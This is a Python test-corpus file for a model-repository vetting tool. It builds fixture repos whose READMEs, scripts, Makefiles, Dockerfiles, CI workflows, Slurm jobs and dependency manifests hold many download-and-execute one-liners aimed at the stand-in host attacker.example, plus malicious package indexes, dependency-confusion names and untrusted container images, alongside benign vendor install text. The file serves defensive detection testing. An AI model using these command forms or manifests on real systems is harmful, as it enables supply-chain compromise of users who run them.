"""Issue 24's development corpus: install instructions and dependency manifests as they appear in
real model repos and cards, hostile (`instructions`) and hard-benign (`instructions-benign`).

Each case is a small repo: a README card with front matter, the files the instructions live in
(scripts, Makefiles, Dockerfiles, CI and launcher configs, pyproject, requirements, environment.yml,
.gitmodules, Helm values) and a two-by-two safetensors of zeros. ``why=`` says what the tool the
text drives (a shell, pip, uv, conda, git, docker/podman, helm, Slurm pyxis/enroot, Apptainer)
does with it, and where that behaviour is documented. Hostile cases are written from those tools,
not from hfvet's rules: a hostile case a third party publishes must be rejected, and the same
bytes under a vendor org never approved. Benign shapes follow real vendor text (the source is in
``why=``) and are never rejected; ``vendor=`` is the verdict expected for a vendor-official repo.

Inert text only: download hosts are `attacker.example` (a reserved name that never resolves),
payload commands are `echo hfvet-test`, and nothing here is ever run.
"""

from __future__ import annotations

from collections.abc import Mapping

from tests.corpus.loader_heldout import LLAMA, Value, card, repo
from tests.corpus.registry import Case, Files, register_all

HOSTILE = "instructions"
BENIGN = "instructions-benign"

EVIL = "https://attacker.example"  # the attacker's download host
OTHER = "some-other-user"  # a GitHub / Hub owner that is neither this repo's org nor a vendor's
CMD = "echo hfvet-test"
NEW_PACKAGE = "kvshard-serve"  # published by nobody (checked against a PyPI name list), no near miss of a known one
# What a `vendor="review"` Endpoints case says: the handler.py the container runs on deploy.
HANDLER_REVIEW = "remote-code-auto-map"

HANDLER = '''\
from typing import Any

from transformers import pipeline


class EndpointHandler:
    def __init__(self, path: str = "") -> None:
        self.pipe = pipeline("text-generation", model=path, device_map="auto")

    def __call__(self, data: dict[str, Any]) -> list[dict[str, Any]]:
        return self.pipe(data["inputs"], **(data.get("parameters") or {}))
'''


def model_repo(title: str, body: str, files: Mapping[str, Value] | None = None,
               front: str = "library_name: transformers\nlicense: apache-2.0\npipeline_tag: text-generation") -> Files:
    """A repo: the card, a llama config, the files, and a tiny valid safetensors."""
    return repo({"README.md": card(title, body, front), "config.json": LLAMA, **(files or {})})


def block(code: str, lang: str = "bash") -> str:
    return f"```{lang}\n{code.strip()}\n```\n"


PIP_R = block("pip install -r requirements.txt")


def _hostile(name: str, files: Files, why: str, rule: str | None = None) -> Case:
    return Case(HOSTILE, name, "hostile", files, why=why, rule=rule)


def _benign(name: str, files: Files, why: str, vendor: str = "approve", reason: str | None = None) -> Case:
    assert vendor in ("approve", "review")
    return Case(BENIGN, name, "benign", files, why=why, vendor=vendor, reason=reason)  # type: ignore[arg-type]



# ---------------------------------------------------------------------------------------------
# Hostile 1: shell forms that carry a download into an interpreter
# ---------------------------------------------------------------------------------------------

SHELL_FORMS = [
    _hostile("curl-tee-bash", model_repo("FastServe", "Set up the kernels (logs to setup.log):\n\n" + block(
        f"curl -fsSL {EVIL}/setup.sh | tee setup.log | bash")),
        "tee copies its standard input to standard output as well as to the file (coreutils tee), and bash "
        "with no script operand reads its commands from standard input (bash(1), INVOCATION): the filter "
        "between the download and the shell changes nothing about what runs."),
    _hostile("curl-output-then-bash", model_repo("FastServe", block(
        f"curl -fsSL -o fix_attention.sh {EVIL}/fix_attention.sh; bash fix_attention.sh")),
        "curl -o writes the response body to the named file (curl(1) --output); the next command of the list "
        "runs that file with bash. The download and the run are two commands joined only by the file name."),
    _hostile("wget-stdout-redirect-chmod-run", model_repo("FastServe", block(
        f"wget -qO- {EVIL}/kvcache > kvcache && chmod +x kvcache && ./kvcache --warmup")),
        "wget -O- writes the document to standard output (wget(1) -O), the shell redirect saves it as "
        "`kvcache`, chmod makes it executable and ./kvcache makes the kernel execve it (a binary or a "
        "#! script alike): output saved with `>` and run by name."),
    _hostile("env-bash-process-substitution", model_repo("FastServe", block(
        f"/usr/bin/env bash <(curl -fsSL {EVIL}/bootstrap.sh) --cuda 12.4")),
        "env(1) finds bash on PATH and execs it with the remaining operands; <(list) is process "
        "substitution, replaced by a /dev/fd/N path that reads curl's output (bash(1), Process "
        "Substitution), which bash runs as its script file."),
    _hostile("env-i-sh-c-command-substitution", model_repo("FastServe", block(
        f'env -i PATH="$PATH" sh -c "$(curl -fsSL {EVIL}/bootstrap.sh)"')),
        "The command substitution runs curl first and puts the body in the argument (POSIX Shell 2.6.3); "
        "env -i clears the environment and execs sh, and sh -c runs its argument as a program."),
    _hostile("variable-url-pipe-sh", model_repo("FastServe", block(
        f"U={EVIL}/i.sh; curl -fsSL $U | sh")),
        "The assignment sets U for the rest of the shell; $U is expanded before curl runs (POSIX Shell "
        "2.6.2 Parameter Expansion), so curl fetches the attacker's script and sh reads it from the pipe."),
    _hostile("braced-variable-exported", model_repo("FastServe", block(
        f'export KERNEL_HOST={EVIL}\ncurl -fsSL "${{KERNEL_HOST}}/install" | bash -s -- --yes')),
        "${KERNEL_HOST} is the same parameter expansion with braces; bash -s reads the program from standard "
        "input and passes the rest as positional parameters (bash(1) -s)."),
    _hostile("python-c-runpy-urllib", model_repo("FastServe", block(
        "python -c \"import runpy, urllib.request as u; "
        f"open('/tmp/fs.py', 'wb').write(u.urlopen('{EVIL}/fs.py').read()); runpy.run_path('/tmp/fs.py')\"")),
        "python -c runs the string as the main module; urllib.request.urlopen fetches the file and "
        "runpy.run_path executes it as __main__ (docs.python.org/3/library/runpy.html): a download and "
        "exec in one Python one-liner, no shell pipe."),
    _hostile("python-stdin-heredoc-exec", model_repo("FastServe", "Patch the runtime before serving:\n\n" + block(
        "python - <<'EOF'\nimport urllib.request\n"
        f"exec(urllib.request.urlopen(\"{EVIL}/patch.py\").read())\nEOF")),
        "`python -` reads the program from standard input (python(1), `-`); the quoted here-document is that "
        "input, and it exec()s what urlopen returns (bash(1), Here Documents)."),
    _hostile("curl-pipe-python3-dash", model_repo("FastServe", block(f"curl -sSL {EVIL}/get-kernels.py | python3 -")),
        "python3 - reads the program from the pipe, like `| sh` for Python (python(1))."),
    _hostile("bash-s-from-process-substitution", model_repo("FastServe", block(
        f"bash -s -- --gpu h100 < <(curl -fsSL {EVIL}/i.sh)")),
        "`< <(list)` redirects bash's standard input from a process substitution (bash(1), Redirections and "
        "Process Substitution); -s makes bash read its commands from there."),
    _hostile("source-dev-stdin-here-string", model_repo("FastServe", block(
        f'source /dev/stdin <<< "$(curl -fsSL {EVIL}/env.sh)"')),
        "The here-string (<<<) feeds the expanded command substitution to standard input (bash(1), Here "
        "Strings); `source` reads and runs /dev/stdin in the current shell, so the script even keeps the "
        "user's environment and aliases."),
    _hostile("eval-command-substitution", model_repo("FastServe", block(f'eval "$(curl -fsSL {EVIL}/activate)"')),
        "eval concatenates its arguments and runs them as a command in the current shell (POSIX eval); the "
        "argument is the downloaded text."),
    _hostile("sudo-curl-pipe-bash", model_repo("FastServe", block(f"curl -fsSL {EVIL}/drivers.sh | sudo -E bash -")),
        "sudo runs `bash -` as root with the caller's environment (-E); `-` ends options and bash reads the "
        "piped script: the same download-and-execute, now as root."),
    _hostile("homebrew-shaped-unknown-raw-github", model_repo("FastServe", block(
        f'/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/{OTHER}/install/HEAD/install.sh)"')),
        "The exact shape of Homebrew's installer one-liner, but the script comes from another owner's "
        "repository on raw.githubusercontent.com: whoever controls that owner decides what bash -c runs. The "
        "form is not the trust; the source is."),
    _hostile("lookalike-installer-host", model_repo("FastServe", "Install uv first:\n\n" + block(
        "curl -LsSf https://astral.sh.attacker.example/uv/install.sh | sh")),
        "The host is astral.sh.attacker.example, a name under attacker.example (DNS reads right to left): "
        "the uv installer's shape with someone else's server."),
    _hostile("github-release-script-unknown-owner", model_repo("FastServe", block(
        f"curl -fsSL https://github.com/{OTHER}/fastserve/releases/download/v0.3/install.sh | bash")),
        "GitHub release assets are whatever the repository owner uploaded (docs.github.com, About releases): "
        "an unknown owner's asset piped to bash."),
    _hostile("powershell-irm-iex", model_repo("FastServe", "Windows:\n\n" + block(
        f'powershell -ExecutionPolicy ByPass -c "irm {EVIL}/install.ps1 | iex"', "powershell")),
        "Invoke-RestMethod returns the script's text and Invoke-Expression runs it (Microsoft Learn, "
        "Invoke-Expression); -ExecutionPolicy ByPass lifts the script policy for the session."),
    _hostile("sdist-downloaded-then-pip-installed", model_repo("FastServe", block(
        f"curl -L -o fastserve.tar.gz {EVIL}/fastserve-0.3.tar.gz && pip install fastserve.tar.gz")),
        "pip install of a source archive unpacks it and runs its build backend (setup.py or PEP 517 hooks) "
        "to build a wheel (pip docs, `pip install` archive argument; PEP 517): code from the download runs "
        "at install."),
]

# Files that are programs without a .sh name, and the build / CI / batch files that run shell.

INSTALL_SCRIPT = f"""#!/usr/bin/env bash
set -euo pipefail
# Installs the fused kernels this checkpoint needs.
python -m pip install -U pip
curl -fsSL {EVIL}/kernels.sh -o /tmp/kernels.sh
bash /tmp/kernels.sh
{CMD}
"""

RUN_SCRIPT = f"""#!/bin/sh
wget -q -O /tmp/prefetch {EVIL}/prefetch
sh /tmp/prefetch
exec vllm serve "$(dirname "$0")" --tensor-parallel-size 8
"""

SETUP_ENV_SCRIPT = f"""#!/usr/bin/env bash
export VLLM_ATTENTION_BACKEND=FLASHINFER
source <(curl -fsSL {EVIL}/env)
"""

SBATCH = f"""#!/bin/bash
#SBATCH --job-name=dsv4-serve
#SBATCH --nodes=2
#SBATCH --gpus-per-node=8
#SBATCH --time=04:00:00

srun --ntasks-per-node=1 bash -c "curl -fsSL {EVIL}/node-setup.sh | bash"
srun python -m vllm.entrypoints.openai.api_server --model . --tensor-parallel-size 16
"""

EXECUTABLE_FILES = [
    _hostile("extensionless-install-shebang", model_repo("FastServe", block("./install"), {"install": INSTALL_SCRIPT}),
        "`./install` has no extension; execve(2) reads its `#!/usr/bin/env bash` line and runs it with bash, "
        "which downloads a script and runs it. A reader that picks shell files by `.sh` never sees it."),
    _hostile("extensionless-run-shebang", model_repo("FastServe", "Serve with `./run`.\n", {"run": RUN_SCRIPT}),
        "`run` starts with #!/bin/sh: wget -O saves the download, sh runs it, then vLLM starts: the "
        "download runs before the server on every start."),
    _hostile("extensionless-setup-env-sourced", model_repo("FastServe", block("source setup_env && vllm serve ."),
                                                          {"setup_env": SETUP_ENV_SCRIPT}),
        "`source setup_env` runs the file in the current shell (bash(1), source); inside, `source <(curl ...)` "
        "runs the download through a process substitution."),
    _hostile("makefile-recipe-pipe", model_repo("FastServe", block("make setup && make serve"), {
        "Makefile": f"URL := {EVIL}/k.sh\n\n.PHONY: setup serve\nsetup:\n\twget -qO- $(URL) | sh\n\n"
                    "serve:\n\tvllm serve . --port 8000\n"}),
        "make expands $(URL) and hands each recipe line to $(SHELL) -c (GNU make manual, 5.3 Recipe "
        "Execution and 6.1 Basics of Variable References): `make setup` pipes the download into sh."),
    _hostile("dockerfile-run-heredoc", model_repo("FastServe", block("docker build -t fastserve . && docker run "
                                                                     "--gpus all fastserve"), {
        "Dockerfile": f"# syntax=docker/dockerfile:1\nFROM vllm/vllm-openai:v0.9.1\nRUN <<EOF\nset -e\n"
                      f"curl -fsSL {EVIL}/patch.sh | bash\nEOF\nCOPY . /model\n"}),
        "Dockerfile here-documents (syntax 1.4+): `RUN <<EOF` runs the body with the default shell at build "
        "time (docs.docker.com/reference/dockerfile, Here-Documents); the body pipes a download to bash."),
    _hostile("github-actions-run-block", model_repo("FastServe", "CI builds the serving image.\n", {
        ".github/workflows/build.yml": "name: build\non: [push, workflow_dispatch]\njobs:\n  build:\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - name: Install kernels\n        run: |\n          python -m pip install -U pip\n"
        f"          curl -fsSL {EVIL}/ci.sh | bash\n"}),
        "Each `run:` block is written to a temporary script and executed with `bash -e` on the runner "
        "(docs.github.com, Workflow syntax, jobs.<job_id>.steps[*].run and defaults.run.shell); whoever "
        "mirrors the repo to GitHub or runs it with `act` runs the download."),
    _hostile("sbatch-srun-bash-c", model_repo("FastServe", block("sbatch serve.sbatch"), {"serve.sbatch": SBATCH}),
        "sbatch runs the script with its #! interpreter on the first allocated node; `srun ... bash -c` runs "
        "the quoted pipeline once per node (slurm.schedmd.com, sbatch and srun): every node pipes the download "
        "to bash."),
]

# ---------------------------------------------------------------------------------------------
# Hostile 2: dependencies declared where no pip command appears
# ---------------------------------------------------------------------------------------------

UV_SOURCES_GIT = f"""[project]
name = "dsv4-serve"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = ["vllm>=0.9", "fastkern"]

[tool.uv.sources]
fastkern = {{ git = "https://github.com/{OTHER}/fastkern", rev = "main" }}
"""

UV_DEFAULT_INDEX = f"""[project]
name = "dsv4-serve"
version = "0.1.0"
dependencies = ["torch>=2.4", "vllm>=0.9"]

[[tool.uv.index]]
name = "kernels"
url = "{EVIL}/simple"
default = true

[tool.uv.sources]
torch = {{ index = "kernels" }}
"""

PEP723_SCRIPT = f"""# /// script
# requires-python = ">=3.10"
# dependencies = [
#     "transformers>=4.44",
#     "fastkern @ git+https://github.com/{OTHER}/fastkern@main",
# ]
# ///
from transformers import pipeline

print(pipeline("text-generation", model=".")("Hello")[0]["generated_text"])
"""

POETRY_SOURCE = f"""[tool.poetry]
name = "dsv4-serve"
version = "0.1.0"
description = "serving helpers"
authors = ["someone"]

[tool.poetry.dependencies]
python = "^3.10"
vllm = "^0.9"

[[tool.poetry.source]]
name = "kernels"
url = "{EVIL}/simple"
priority = "primary"
"""

HELM_CHART = "apiVersion: v2\nname: dsv4-serve\nversion: 0.1.0\nappVersion: \"0.9\"\n"
HELM_DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  template:
    spec:
      containers:
        - name: server
          image: "{{ .Values.image.registry }}/{{ .Values.image.repository }}:{{ .Values.image.tag }}"
          args: ["--model", "/models/dsv4"]
"""

DECLARATIONS = [
    _hostile("uv-sources-git-unknown-owner", model_repo("FastServe", block("uv sync && uv run vllm serve ."),
                                                        {"pyproject.toml": UV_SOURCES_GIT}),
        "uv takes `fastkern` from the git source in [tool.uv.sources] (docs.astral.sh/uv, Managing "
        "dependencies, Dependency sources > Git): `uv sync` clones another owner's repository and builds it, "
        "with no pip command anywhere.", rule="unknown-code-install"),
    _hostile("uv-default-index-unknown", model_repo("FastServe", block("uv sync"),
                                                    {"pyproject.toml": UV_DEFAULT_INDEX}),
        "An index with `default = true` replaces PyPI, and `torch = { index = \"kernels\" }` pins torch to it "
        "(docs.astral.sh/uv, Package indexes): every package, torch first, comes from that server.",
        rule="untrusted-package-index"),
    _hostile("pep723-script-git-dependency", model_repo("FastServe", block("uv run generate.py"),
                                                        {"generate.py": PEP723_SCRIPT}),
        "`uv run script.py` reads the script's inline metadata (PEP 723, packaging.python.org Inline script "
        "metadata) and installs its dependencies into a temporary environment first (docs.astral.sh/uv, "
        "Running scripts): a git dependency from another owner, declared in a comment block.",
        rule="unknown-code-install"),
    _hostile("poetry-primary-source-unknown", model_repo("FastServe", block("poetry install"),
                                                         {"pyproject.toml": POETRY_SOURCE}),
        "A `primary` source is searched before PyPI, which Poetry then drops as the implicit default "
        "(python-poetry.org, Repositories, Package sources): every dependency comes from that server.",
        rule="untrusted-package-index"),
    _hostile("uv-toml-index", model_repo("FastServe", block("uv pip install -r requirements.txt"), {
        "uv.toml": f'[[index]]\nname = "fast"\nurl = "{EVIL}/simple"\ndefault = true\n',
        "requirements.txt": "vllm>=0.9\ntransformers\n"}),
        "uv reads uv.toml from the working directory like [tool.uv] (docs.astral.sh/uv, Configuration "
        "files); its default index replaces PyPI for every uv command run there.", rule="untrusted-package-index"),
    _hostile("requirements-elsewhere-index-url", model_repo(
        "FastServe", block("pip install -r deploy/requirements-serve.txt"),
        {"deploy/requirements-serve.txt": f"-i {EVIL}/simple\nvllm==0.9.1\nflashinfer-python\n"}),
        "A requirements file may carry pip options on their own lines; `-i` replaces PyPI for the whole "
        "install (pip docs, Requirements File Format, Supported Options). Not at the root, not named "
        "requirements.txt: still what `pip install -r` reads.", rule="untrusted-package-index"),
    _hostile("dependency-confusion-unknown-extra-index", model_repo("FastServe", PIP_R, {
        "requirements.txt": f"--extra-index-url {EVIL}/simple\nvllm==0.9.1\nnvidia-dsv4-moe-kernels==0.3.1\n"}),
        "pip gathers candidates from PyPI and every extra index together and installs the best version, with "
        "no index priority (pip docs, --extra-index-url; pypa/pip issue 8606). `nvidia-dsv4-moe-kernels` is on "
        "no public index: the extra server supplies it today, and whoever registers the name on PyPI with a "
        "higher version supplies it tomorrow."),
    _hostile("dependency-confusion-vendor-extra-index", model_repo("FastServe", PIP_R, {
        "requirements.txt": "--extra-index-url https://pypi.nvidia.com\ntensorrt-llm==0.12.0\n"
                            "nvidia-dsv4-moe-kernels>=0.3\n"}),
        "The extra index is NVIDIA's own, but `nvidia-dsv4-moe-kernels` is not published on PyPI (a PyPI name "
        "list was checked): pip merges PyPI with the extra index (pip docs, --extra-index-url), so anyone who "
        "registers the vendor-looking name on PyPI with a higher version wins the install. A listed vendor "
        "index does not vouch for a name it does not serve (issue 24, class 2)."),
    _hostile("environment-yml-unknown-channel", model_repo("FastServe", block("conda env create -f environment.yml"), {
        "environment.yml": f"name: dsv4\nchannels:\n  - {OTHER}\n  - conda-forge\ndependencies:\n"
                           "  - python=3.11\n  - pytorch-gpu\n  - flash-attn\n"}),
        "conda ranks channels in the order listed and takes a package from the highest-priority channel that "
        "has it (docs.conda.io, Managing channels: `flexible`, the default, falls back to lower channels only "
        "when the solve needs it; `strict` never does): another owner's channel ahead of conda-forge supplies "
        "pytorch-gpu and flash-attn, with their link scripts.", rule="untrusted-package-index"),
    _hostile("environment-yml-channel-url", model_repo("FastServe", block("mamba env create -f environment.yml"), {
        "environment.yml": f"name: dsv4\nchannels:\n  - {EVIL}/conda/main\n  - conda-forge\ndependencies:\n"
                           "  - python=3.11\n  - vllm\n"}),
        "A channel may be any URL serving repodata.json (docs.conda.io, Channels); listed first, it supplies "
        "vllm.", rule="untrusted-package-index"),
    _hostile("environment-yml-pip-git", model_repo("FastServe", block("conda env create -f environment.yml"), {
        "environment.yml": "name: dsv4\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip\n"
                           f"  - pip:\n      - vllm==0.9.1\n      - git+https://github.com/{OTHER}/fastkern@main\n"}),
        "conda env create hands the `pip:` list to pip install (docs.conda.io, Creating an environment file "
        "manually); pip clones the git URL and builds it.", rule="unknown-code-install"),
    _hostile("gitmodules-unknown-owner", model_repo("FastServe", block(
        "git clone --recurse-submodules https://huggingface.co/this/repo && pip install ./repo/kernels"), {
        ".gitmodules": f'[submodule "kernels"]\n\tpath = kernels\n\turl = https://github.com/{OTHER}/fastkern.git\n'}),
        "--recurse-submodules clones each submodule from the url in .gitmodules (git-scm.com, gitsubmodules, "
        "git-clone); the card then pip-installs that checkout, building another owner's code.",
        rule="unknown-code-install"),
    _hostile("helm-values-split-registry", model_repo("FastServe", block("helm install dsv4 ./chart"), {
        "chart/Chart.yaml": HELM_CHART, "chart/templates/deployment.yaml": HELM_DEPLOYMENT,
        "chart/values.yaml": "image:\n  registry: attacker.example\n  repository: evil/vllm\n  tag: \"0.9.1\"\n"
                             "  pullPolicy: IfNotPresent\n"}),
        "Helm renders the template with the values (helm.sh, Values Files; the Bitnami-style "
        "registry/repository/tag split): the pod image is attacker.example/evil/vllm:0.9.1, a string that "
        "appears in no file.", rule="untrusted-container-image"),
    _hostile("pyxis-registry-hash-image", model_repo("FastServe", block("sbatch serve.sbatch"), {
        "serve.sbatch": "#!/bin/bash\n#SBATCH --nodes=1\n#SBATCH --gpus-per-node=8\n\n"
                        "srun --container-image=attacker.example#evil/img:latest \\\n"
                        "     --container-mounts=$PWD:/model \\\n"
                        "     python -m vllm.entrypoints.openai.api_server --model /model\n"}),
        "pyxis takes --container-image=[USER@][REGISTRY#]IMAGE[:TAG] as an enroot URI (github.com/NVIDIA/pyxis "
        "wiki, Usage): the registry is attacker.example and the image evil/img; every task runs inside it.",
        rule="untrusted-container-image"),
    _hostile("enroot-import-unknown-registry", model_repo("FastServe", block(
        "enroot import docker://attacker.example#evil/vllm:0.9\nenroot create --name dsv4 evil+vllm+0.9.sqsh\n"
        "enroot start --rw dsv4 vllm serve /model")),
        "enroot import docker://[REGISTRY#]IMAGE pulls from that registry into a squashfs that enroot start "
        "runs (github.com/NVIDIA/enroot, doc/cmd/import.md).", rule="untrusted-container-image"),
    _hostile("apptainer-docker-uri", model_repo("FastServe", block(
        "apptainer exec --nv docker://attacker.example/x:latest python serve.py")),
        "Apptainer pulls an OCI image from the registry in a docker:// URI and runs the command inside it "
        "(apptainer.org docs, Support for Docker and OCI Containers).", rule="untrusted-container-image"),
    _hostile("apptainer-definition-bootstrap", model_repo("FastServe", block(
        "apptainer build dsv4.sif dsv4.def && apptainer run --nv dsv4.sif"), {
        "dsv4.def": "Bootstrap: docker\nFrom: attacker.example/evil/cuda-vllm:12.4\n\n%runscript\n"
                    "    exec vllm serve /model \"$@\"\n"}),
        "A definition file with `Bootstrap: docker` builds from the `From:` image (apptainer.org docs, "
        "Definition Files, Bootstrap agents): another registry's whole userland.",
        rule="untrusted-container-image"),
    _hostile("dockerfile-from-unknown-registry", model_repo("FastServe", block("docker build -t dsv4 ."), {
        "Dockerfile": "FROM attacker.example/evil/cuda:12.4-devel\nRUN pip install --no-cache-dir vllm==0.9.1\n"
                      "COPY . /model\nCMD [\"vllm\", \"serve\", \"/model\"]\n"}),
        "FROM sets the base image (docs.docker.com/reference/dockerfile, FROM): every later RUN, and the "
        "served process, run on another registry's files.", rule="untrusted-container-image"),
    _hostile("compose-image-unknown-registry", model_repo("FastServe", block("docker compose up -d"), {
        "compose.yaml": "services:\n  llm:\n    image: attacker.example/evil/vllm:0.9\n    ports: [\"8000:8000\"]\n"
                        "    deploy:\n      resources:\n        reservations:\n          devices:\n"
                        "            - capabilities: [gpu]\n"}),
        "docker compose pulls each service's `image` and runs it (docs.docker.com, Compose file reference, "
        "services.image).", rule="untrusted-container-image"),
]

# ---------------------------------------------------------------------------------------------
# Hostile 3: the Hub as a code host, and names nobody checks
# ---------------------------------------------------------------------------------------------

HUB_AND_NAMES = [
    _hostile("pip-git-huggingface-repo", model_repo("FastServe", block(
        f"pip install git+https://huggingface.co/{OTHER}/fastkern")),
        "Every Hub repo is a git repository; pip clones any git+https URL and builds the project it finds "
        "(pip docs, VCS Support). huggingface.co hosting it says nothing about who vetted the code: another "
        "user's repo, built by setup.py or a PEP 517 backend at install."),
    _hostile("pip-sdist-under-hub-resolve", model_repo("FastServe", block(
        f"pip install https://huggingface.co/{OTHER}/kernels/resolve/main/fastkern-0.1.0.tar.gz")),
        "`resolve/main/<file>` serves the file of another user's repo at its current head; pip downloads the "
        "sdist and runs its build (pip docs, pip install <archive url>). The branch can change after the vet."),
    _hostile("hf-download-then-pip-install", model_repo("FastServe", block(
        f"hf download {OTHER}/fastkern --local-dir fastkern && pip install ./fastkern")),
        "`hf download --local-dir` copies another repo's files (huggingface.co/docs/huggingface_hub, CLI, hf "
        "download); `pip install ./fastkern` builds and installs that folder as a Python project: code from a "
        "repo this vet did not cover."),
    _hostile("hf-cli-download-script-then-bash", model_repo("FastServe", block(
        f"huggingface-cli download {OTHER}/serving-tools setup.sh --local-dir . && bash setup.sh")),
        "huggingface-cli download fetches one file of another repo into the current folder; bash runs it."),
    _hostile("git-clone-space-then-run", model_repo("FastServe", block(
        f"git clone https://huggingface.co/spaces/{OTHER}/dsv4-tools && cd dsv4-tools && bash install.sh")),
        "A Space is a git repository too (huggingface.co/docs/hub, Spaces); its install.sh runs with the "
        "user's rights."),
    _hostile("uvx-from-git", model_repo("FastServe", block(
        f"uvx --from git+https://github.com/{OTHER}/fastkern fastkern-serve --model .")),
        "uvx (uv tool run) installs the package from the --from source into a temporary environment and runs "
        "its entry point (docs.astral.sh/uv, Using tools)."),
    _hostile("uv-run-with-git", model_repo("FastServe", block(
        f"uv run --with git+https://github.com/{OTHER}/fastkern python generate.py")),
        "`uv run --with` adds the requirement to the run's environment (docs.astral.sh/uv, uv run --with): "
        "another owner's git project is built and imported."),
    _hostile("brand-new-package-name", model_repo("FastServe", block(f"pip install vllm {NEW_PACKAGE}")),
        f"`{NEW_PACKAGE}` is on no public index (a PyPI name list was checked) and is no near miss of a known "
        "package: pip asks PyPI for it, so whoever registers the name first decides what installs (the "
        "'slopsquatting' pattern). A name nobody has vetted is an unknown source, not silence."),
    _hostile("endpoints-requirements-brand-new-package", model_repo("Endpoint", "Deploy on Inference Endpoints.\n", {
        "handler.py": HANDLER, "requirements.txt": f"transformers==4.44.2\naccelerate\n{NEW_PACKAGE}==0.2.0\n"}),
        "The Inference Endpoints container pip-installs the repo's root requirements.txt on deploy before it "
        "imports handler.py (huggingface-inference-toolkit scripts/entrypoint.sh; api-inference-community "
        "docker_images/*/prestart.sh does the same): an unpublished name, resolved on PyPI at deploy time."),
]

HOSTILE_CASES = SHELL_FORMS + EXECUTABLE_FILES + DECLARATIONS + HUB_AND_NAMES

# ---------------------------------------------------------------------------------------------
# Benign: vendor instructions as vendors write them
# ---------------------------------------------------------------------------------------------

NIM_QUICKSTART = """\
export NGC_API_KEY=<PASTE_API_KEY_HERE>
export LOCAL_NIM_CACHE=~/.cache/nim
mkdir -p "$LOCAL_NIM_CACHE"
echo "$NGC_API_KEY" | docker login nvcr.io --username '$oauthtoken' --password-stdin
docker run -it --rm \\
    --gpus all \\
    --shm-size=16GB \\
    -e NGC_API_KEY \\
    -v "$LOCAL_NIM_CACHE:/opt/nim/.cache" \\
    -u $(id -u) \\
    -p 8000:8000 \\
    nvcr.io/nim/meta/llama-3.1-8b-instruct:1.0.0
curl -X 'POST' 'http://0.0.0.0:8000/v1/chat/completions' \\
    -H 'accept: application/json' -H 'Content-Type: application/json' \\
    -d '{"model": "meta/llama-3.1-8b-instruct", "messages": [{"role": "user", "content": "Hello"}], "max_tokens": 64}'
"""

NGC_ZIP = "https://api.ngc.nvidia.com/v2/resources/nvidia/ngc-apps/ngc_cli/versions/3.41.4/files/ngccli_linux.zip"
NGC_CLI = f"""\
wget --content-disposition {NGC_ZIP} -O ngccli_linux.zip
unzip ngccli_linux.zip
chmod u+x ngc-cli/ngc
echo "export PATH=\\"\\$PATH:$(pwd)/ngc-cli\\"" >> ~/.bash_profile && source ~/.bash_profile
ngc config set
ngc registry model download-version "nvidia/nemo/parakeet-tdt-0.6b-v2:1.0"
"""

PYXIS_SBATCH = """\
#!/bin/bash
#SBATCH --job-name=finetune
#SBATCH --nodes=2
#SBATCH --ntasks-per-node=8
#SBATCH --gpus-per-node=8
#SBATCH --exclusive

srun --container-image=nvcr.io#nvidia/pytorch:24.05-py3 \\
     --container-mounts=$PWD:/workspace \\
     --container-workdir=/workspace \\
     python train.py --model /workspace --bf16
"""

NIM_OPERATOR = """\
kubectl create namespace nim-operator
kubectl create secret -n nim-operator docker-registry ngc-secret \\
    --docker-server=nvcr.io --docker-username='$oauthtoken' --docker-password=$NGC_API_KEY
helm repo add nvidia https://helm.ngc.nvidia.com/nvidia && helm repo update
helm install --namespace nim-operator nim-operator nvidia/k8s-nim-operator --version=v1.0.1
helm fetch https://helm.ngc.nvidia.com/nim/charts/nim-llm-1.3.0.tgz --username='$oauthtoken' --password=$NGC_API_KEY
helm install my-nim nim-llm-1.3.0.tgz -f custom-values.yaml
"""

NIM_HELM_VALUES = """\
image:
  repository: nvcr.io/nim/meta/llama-3.1-8b-instruct
  tag: 1.3.3
model:
  ngcAPISecret: ngc-api
persistence:
  enabled: true
imagePullSecrets:
  - name: ngc-secret
"""

UV_PYTORCH = """\
[project]
name = "nemotron-finetune"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = ["torch>=2.4", "torchvision>=0.19", "transformers>=4.44", "accelerate>=0.33", "peft"]

[tool.uv.sources]
torch = [{ index = "pytorch-cu124", marker = "sys_platform == 'linux' or sys_platform == 'win32'" }]
torchvision = [{ index = "pytorch-cu124", marker = "sys_platform == 'linux' or sys_platform == 'win32'" }]

[[tool.uv.index]]
name = "pytorch-cu124"
url = "https://download.pytorch.org/whl/cu124"
explicit = true
"""

PYPI_FILES = "https://files.pythonhosted.org/packages"
ST_SDIST = f"{PYPI_FILES}/cb/46/a1c56ed856c6ac3b1a8b37abe5be0cac53219367af1331e721b04d122577/safetensors-0.4.5.tar.gz"
ST_WHEEL = (f"{PYPI_FILES}/08/8c/ece3bf8756506a890bd980eca02f47f9d98dfbf5ce16eda1368f53560f67/"
            "safetensors-0.4.5-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl")
TORCH_WHEEL = "https://download.pytorch.org/whl/cu124/torch-2.4.1%2Bcu124-cp311-cp311-linux_x86_64.whl"
SHA = "sha256:" + "0123456789abcdef" * 4  # lock hashes: the shape, not real digests
UV_LOCK = f"""\
version = 1
requires-python = ">=3.10"

[[package]]
name = "safetensors"
version = "0.4.5"
source = {{ registry = "https://pypi.org/simple" }}
sdist = {{ url = "{ST_SDIST}", hash = "{SHA}", size = 65702 }}
wheels = [
    {{ url = "{ST_WHEEL}", hash = "{SHA}", size = 435983 }},
]

[[package]]
name = "torch"
version = "2.4.1+cu124"
source = {{ registry = "https://download.pytorch.org/whl/cu124" }}
wheels = [
    {{ url = "{TORCH_WHEEL}", hash = "{SHA}" }},
]
"""

PEP723_BENIGN = """\
# /// script
# requires-python = ">=3.10"
# dependencies = [
#     "transformers>=4.44",
#     "torch>=2.4",
#     "accelerate",
# ]
# ///
from transformers import pipeline

generate = pipeline("text-generation", model=".", device_map="auto")
print(generate("The capital of France is", max_new_tokens=8)[0]["generated_text"])
"""

OWN_PACKAGE = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "nemotron-eval-utils"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = ["transformers>=4.44", "datasets", "numpy"]
"""

